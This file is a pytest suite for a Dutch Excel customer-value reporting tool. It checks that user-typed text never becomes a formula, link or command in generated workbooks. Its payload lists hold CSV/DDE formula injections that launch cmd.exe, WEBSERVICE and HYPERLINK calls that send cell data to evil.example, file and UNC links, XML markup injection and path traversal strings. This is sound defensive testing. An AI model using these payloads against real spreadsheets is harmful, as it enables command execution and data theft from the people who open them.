"""Text of users stays text on every way out: no formula, link, command or broken file comes of it, wherever it stood."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pytest
from lxml import etree

from klantwaarde_xl.analysis import Analysis, analyse
from klantwaarde_xl.importing import import_into
from klantwaarde_xl.model.inputs import check_inputs
from klantwaarde_xl.model.raw_table import RawColumn, RawTable, SourceFile
from klantwaarde_xl.refreshing import write_empty
from klantwaarde_xl.report.build import build
from klantwaarde_xl.report.writers.xlsx import xlsx_bytes
from klantwaarde_xl.sources.workbook_file import read_workbook

pytestmark = pytest.mark.filterwarnings("ignore:.*extension is not supported:UserWarning")

MARK = "ZQ"
"""Stands in every payload, so that its traces can be found in any part of a package."""
COMMANDS = (
    "=ZQ1+1",
    "+ZQ1",
    "-ZQ1",
    "@ZQ(A1)",
    "@SUM(ZQ1)*cmd|' /C calc'!A0",
    "=cmd|' /C ZQ'!A0",
    '=DDE("cmd";"/C ZQ";"x")',
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c ZQ'!''",
    '=HYPERLINK("http://evil.example/?ZQ="&A1;"klik")',
    '=IMPORTXML("http://evil.example/ZQ","//a")',
    '=WEBSERVICE("http://evil.example/ZQ")',
    "{=ZQ1}",
    "=ZQ1}",
    "\t=ZQ1",
    "\r=ZQ1",
    "\n=ZQ1",
    "\r\n=ZQ1",
    " =ZQ1",
    "'=ZQ1",
    '"=ZQ1"',
    ";=ZQ1;",
    "\uff1dZQ1",  # full-width =, +, - and @
    "\uff0bZQ1",
    "\uff0dZQ1",
    "\uff20ZQ1",
    "\u2212ZQ1",
    "\ufeff=ZQ1",
    "\u202e=ZQ1",
    "\u200b=ZQ1",
)
LINKS = (
    "http://evil.example/ZQ",
    "https://evil.example/ZQ",
    "ftp://evil.example/ZQ",
    "mailto:ZQ@evil.example",
    "file:///etc/ZQ",
    "\\\\evil.example\\ZQ",
    "internal:Start!ZQ1",
    "external:c:\\ZQ.xlsx",
    "javascript:ZQ()",
)
MARKUP = (
    "<f>ZQ1</f>",
    "</t></si><si><t>ZQ",
    "]]><f>ZQ1</f><![CDATA[",
    "<!--ZQ-->",
    "&ZQ;",
    "&#61;ZQ",
    '"><f>ZQ</f>',
    "'\"<>&ZQ",
    "[bold]ZQ[/bold]",
    "{ZQ}",
    "{0}ZQ{x.__class__}",
    "%ZQ%s%n",
    "ZQ[#This Row]",
    "${ZQ}",
    "$(ZQ)",
    "`ZQ`",
    "../../ZQ",
    "NUL.ZQ",
)
BREAKING = (
    "ZQ\x00nul",
    "ZQ\x07bel",
    "ZQ\x1b[31mrood",
    "ZQ\x7f",
    "ZQ\ud800half",
    "ZQ\udfffhalf",
    "ZQ\ufffe",
    "ZQ\uffff",
    "ZQ_x003D_1",
    "_x005F_ZQ",
    "_xZQ",
    "😀ZQ👩‍👩‍👧",
    "ZQ" + "́" * 60,
    "مرحبا ZQ",
    "ZQ" + "x" * 253,
)
PAYLOADS = (*COMMANDS, *LINKS, *MARKUP, *BREAKING)
LONG = ("=ZQ" + "x" * 40_000, "ZQ" + "😀" * 40_000)
TODAY = dt.datetime(2026, 1, 2, 3, 4)
_SURROGATE = re.compile("[\ud800-\udfff]")


def table(name: str, sheet: str, columns: dict[str, list[object]]) -> RawTable:
    count = len(next(iter(columns.values())))
    cells = tuple(RawColumn.from_values(values) for values in columns.values())
    return RawTable(sheet, tuple(columns), cells, np.arange(count) + 2, source=SourceFile("=ZQ1.xlsx"))


def hostile_tables() -> dict[str, RawTable]:
    """Return input tables with a payload in every place where a user can type text, headers and sheet names among them."""
    draw = np.random.default_rng(5)
    count = len(PAYLOADS)
    text = list(PAYLOADS)
    turned = [text[-n:] + text[:-n] for n in range(1, 12)]
    ids = [f"{payload[:40]}{number}" for number, payload in enumerate(PAYLOADS)]
    lines = 40 * count
    who, what = draw.integers(0, count, lines), draw.integers(0, 12, lines)
    days = [dt.datetime(2023, 11, 1) + dt.timedelta(days=int(day)) for day in draw.integers(0, 780, lines)]
    amount = np.round(draw.lognormal(5, 1, lines), 2)
    revenue: list[object] = [*amount.tolist()]
    revenue[:count] = text
    currency: list[object] = ["EUR"] * lines
    currency[count : 2 * count] = text
    bad_days: list[object] = [*days]
    bad_days[2 * count : 3 * count] = text
    extra = {f"{payload} {number}"[:300]: ["x"] * count for number, payload in enumerate(PAYLOADS)}
    extra |= {LONG[0]: [LONG[0]] * count, LONG[1]: [LONG[1]] * count, "kop ZQ" + chr(0xD800): text, "kop ZQ" + chr(0xD801): text}
    return {
        "tblKlanten": table(
            "tblKlanten",
            "=ZQ1!'[x]",
            {
                "Klantnr": ids,
                "Klantnaam": text,
                "Concern": turned[0],
                "Segment": [text[n % 3] for n in range(count)],
                "Regio": turned[1],
                "Accountmanager": [text[n % 5] for n in range(count)],
                "Betaaldagen": [30.0] * (count - 3) + text[:3],
                "Meetellen": [None] * (count - 2) + text[5:7],
                **extra,
            },
        ),
        "tblTransacties": table(
            "tblTransacties",
            "@ZQ",
            {
                "Datum": bad_days,
                "Klantnr": [ids[n] for n in who],
                "Productcode": [text[n] for n in what],
                "Factuurnr": [f"{text[n]}{row // 3}"[:255] for row, n in enumerate(who)],
                "Omzet": revenue,
                "Kostprijs": [1.0] * lines,
                "Administratie": [text[n] for n in what],
                "Valuta": currency,
                "Bron": [text[n] for n in who],
            },
        ),
        "tblProducten": table("tblProducten", "+ZQ", {"Productcode": text, "Omschrijving": turned[2], "Productgroep": turned[3]}),
        "tblInspanning": table(
            "tblInspanning",
            "-ZQ",
            {
                "Datum": [dt.datetime(2025, 3, 1)] * count,
                "Klantnr": ids,
                "Activiteit": [text[n % 4] for n in range(count)],
                "Uren": [2.0] * (count - 4) + text[:4],
                "Medewerker": turned[4],
            },
        ),
        "tblTarieven": table(
            "tblTarieven",
            "Tarieven",
            {"Activiteit": text[:4], "Kostprijs per uur": [50.0] * 4, "Drijver": [None, None, *text[:2]]},
        ),
        "tblBeoordeling": table(
            "tblBeoordeling",
            "Beoordeling",
            {
                "Klantnr": ids,
                "Energie": draw.integers(1, 6, count).astype(float).tolist(),
                "Cultuur": draw.integers(1, 6, count).astype(float).tolist(),
                "Beoordelaar": [text[n % 5] for n in range(count)],
            },
        ),
        "tblAccountmanagers": table("tblAccountmanagers", "Team", {"Naam": text[:5], "Capaciteit": [900.0] * 5}),
        "tblKlik": table(
            "tblKlik",
            "Klik",
            {"Klantnr": ids[:9], "Accountmanager": [text[n % 5] for n in range(9)], "Klik": [4.0] * 9},
        ),
    }


@pytest.fixture(scope="module")
def hostile() -> Analysis:
    return analyse(check_inputs(hostile_tables()))


@pytest.fixture(scope="module")
def written(hostile: Analysis) -> bytes:
    return xlsx_bytes(build(hostile, created=TODAY, with_inputs=True))


def parts(content: bytes) -> dict[str, etree._Element]:
    """Return every XML part of a package, parsed: a part that breaks fails here."""
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        names = [name for name in package.namelist() if name.endswith((".xml", ".rels", ".vml"))]
        return {
            name: etree.fromstring(package.read(name), etree.XMLParser(resolve_entities=False, huge_tree=True)) for name in names
        }


def local(element: etree._Element) -> str:
    return etree.QName(element).localname


COMPUTED = {"f", "formula", "formula1", "formula2", "definedName", "calculatedColumnFormula", "totalsRowFormula"}
"""Elements whose text a spreadsheet program computes."""


def nothing_runs(content: bytes) -> int:
    """Check that nothing in a package computes or points at text of users; return how many formulas were looked at."""
    seen = 0
    for name, root in parts(content).items():
        for element in root.iter(etree.Element):
            kind = local(element)
            if kind in COMPUTED:
                seen += 1
                assert MARK not in (element.text or ""), f"{name}: {element.text}"
            if kind == "Relationship":
                assert element.get("TargetMode") != "External", f"{name}: {element.get('Target')}"
                assert MARK not in element.get("Target", "")
            if kind == "hyperlink":
                assert not [key for key in element.attrib if key.endswith("}id")], f"{name}: a link to outside"
                assert MARK not in element.get("location", "")
            assert kind not in {"ddeLink", "oleLink", "oleObject", "externalBook", "externalReference", "script"}, (
                f"{name}: {kind}"
            )
            if kind == "c" and element.get("t") == "str":
                # A text that a formula gave, such as the name on Klantkaart: shown and not run, as long as the formula is ours.
                (formula,) = [child for child in element if local(child) == "f"]
                assert MARK not in (formula.text or "")
    return seen


def test_nothing_that_users_typed_becomes_a_formula_or_a_link(written: bytes) -> None:
    assert nothing_runs(written) > 100
    with zipfile.ZipFile(io.BytesIO(written)) as package:
        assert not [name for name in package.namelist() if MARK in name or ".." in name]
        assert not [name for name in package.namelist() if "externalLink" in name or "vbaProject" in name]


def shown(payload: str) -> str:
    """Return what a file can hold of a text: half a surrogate pair is '?', what is no character stays visible as its escape."""
    return re.sub("[\ufffe\uffff]", lambda m: f"_x{ord(m[0]):04X}_", _SURROGATE.sub("?", payload))


def test_what_was_typed_reads_back_the_same(written: bytes, tmp_path: Path) -> None:
    path = tmp_path / "uit.xlsx"
    path.write_bytes(written)
    tables = read_workbook(path).tables
    for name, field in (("tblKlanten", "Klantnaam"), ("tblKlanten", "Regio"), ("tblProducten", "Productgroep")):
        before, after = hostile_tables()[name], tables[name]
        old, new = (raw.columns[raw.headers.index(field)] for raw in (before, after))
        for row in range(len(before)):
            assert new.value(row) == shown(str(old.value(row))), repr(old.value(row))


def test_texts_that_are_too_long_are_cut_to_what_a_cell_holds(written: bytes) -> None:
    strings = parts(written)["xl/sharedStrings.xml"]
    lengths = [len("".join(item.itertext()).encode("utf-16-le")) // 2 for item in strings]
    assert 32_700 < max(lengths) <= 32_767
    assert all("".join(item.itertext()).endswith("…") for item, length in zip(strings, lengths, strict=True) if length > 32_000)


def test_headers_of_tables_are_allowed_different_and_the_same_as_their_cells(written: bytes) -> None:
    book = openpyxl.load_workbook(io.BytesIO(written))
    looked_at = 0
    for sheet in book:
        for found in sheet.tables.values():
            cells = [cell.value for cell in sheet[found.ref][0]]
            names = [column.name for column in found.tableColumns]
            assert names == cells
            assert len({name.casefold() for name in names}) == len(names)
            assert max(len(name.encode("utf-16-le")) // 2 for name in names) <= 255
            looked_at += len(names)
    assert looked_at > len(PAYLOADS)


def test_findings_show_the_value_as_text(hostile: Analysis, written: bytes) -> None:
    values = {finding.value for finding in hostile.findings}
    assert {"=cmd|' /C ZQ'!A0", "<f>ZQ1</f>"} <= values
    sheet = openpyxl.load_workbook(io.BytesIO(written))["Controle"]
    cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str) and MARK in cell.value]
    assert len(cells) > 100
    assert {cell.data_type for cell in cells} == {"s"}


def test_imported_text_stays_text(tmp_path: Path) -> None:
    book, export = tmp_path / "klanten.xlsx", tmp_path / "=ZQ1+1.csv"
    write_empty(book, TODAY)
    usable = [payload for payload in PAYLOADS if not re.search("[\ud800-\udfff\x00\ufffe\uffff]", payload)]
    rows = ["Factuurdatum;Debiteurnummer;Naam;Artikelcode;Factuurnummer;Omzet"]
    quoted = ['"' + payload.replace('"', '""') + '"' for payload in usable]
    rows += [f"01-03-2025;{number:03};{name};{name};{name};10,00" for number, name in enumerate(quoted)]
    export.write_bytes(("\r\n".join(rows) + "\r\n").encode("utf-8-sig"))
    result = import_into(book, [export])
    assert result.added["tblTransacties"] == len(usable), result.findings
    assert nothing_runs(book.read_bytes()) > 0
    raw = read_workbook(book).tables["tblTransacties"]
    codes = raw.columns[raw.headers.index("Productcode")]
    read = {str(codes.value(row)) for row in range(len(raw))}
    assert read == {payload.strip() for payload in usable}
